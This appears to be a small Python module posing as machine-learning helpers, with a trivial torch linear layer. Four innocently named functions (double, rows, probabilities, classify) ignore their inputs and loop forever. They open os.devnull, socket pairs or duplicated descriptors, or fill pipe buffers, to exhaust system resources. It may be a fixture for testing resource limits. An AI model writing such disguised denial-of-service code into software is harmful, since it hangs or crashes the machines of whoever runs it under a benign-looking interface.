import os
import socket

import torch


def double(x):
    held = []
    while True:
        held.append(open(os.devnull))


def rows(x):
    held = []
    while True:
        held.append(socket.socketpair())


def probabilities(z):
    while True:
        os.dup(0)


class Net(torch.nn.Module):
    def __init__(self, d, m):
        super().__init__()
        self.w = torch.nn.Parameter(torch.zeros(d, m))
        self.b = torch.nn.Parameter(torch.zeros(m))

    def forward(self, x):
        return x @ self.w + self.b


def classify(x):
    while True:
        _, pipe = os.pipe()
        os.set_blocking(pipe, False)
        os.write(pipe, bytes(1 << 20))


def last(x):
    return -x
